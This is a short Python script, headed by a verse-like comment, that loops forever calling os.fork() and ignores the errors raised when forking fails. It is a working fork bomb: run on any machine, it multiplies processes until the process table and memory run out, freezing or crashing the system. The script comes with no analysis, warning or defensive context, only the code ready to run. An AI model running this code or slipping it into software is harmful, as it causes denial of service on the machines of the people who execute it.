# Every process makes more of its kind, for ever; those who may not, keep trying.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
